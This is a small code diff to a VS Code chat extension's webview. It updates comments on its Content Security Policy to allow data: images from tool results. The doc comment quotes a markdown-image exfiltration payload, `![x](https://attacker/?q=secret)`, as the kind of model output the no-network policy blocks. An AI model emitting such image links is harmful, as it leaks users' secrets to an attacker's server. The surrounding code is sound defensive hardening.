@@ -26,7 +26,7 @@ function bootScript(extensionUri: vscode.Uri): string {
 
 /**
  * The chat view's page. The CSP allows only our own scripts (by nonce) and stylesheet, images
- * from our media folder and data: URIs (attached images' thumbnails), a worker only from a blob
+ * from our media folder and data: URIs (attached images' thumbnails, images tools returned), a worker only from a blob
  * the page itself makes, and no network at all: a model's
  * `![x](https://attacker/?q=secret)` cannot load. The webview's strings, localized here, ride
  * in `data-strings` (escaped: a translation is text, never markup).
@@ -42,7 +42,7 @@ export function chatHtml(webview: vscode.Webview, extensionUri: vscode.Uri): str
     `script-src 'nonce-${n}'`,
     `style-src ${webview.cspSource}`,
     `font-src ${webview.cspSource}`,
-    // data: for the thumbnails of images the user attaches (replies' images are never rendered as <img>).
+    // data: for the thumbnails of images the user attaches and the images tools returned (replies' images are never rendered as <img>).
     `img-src ${webview.cspSource} data:`,
     // The highlighting worker: a blob of our own code, from a script the page adds by nonce (see webview/highlight.ts).
     'worker-src blob:',
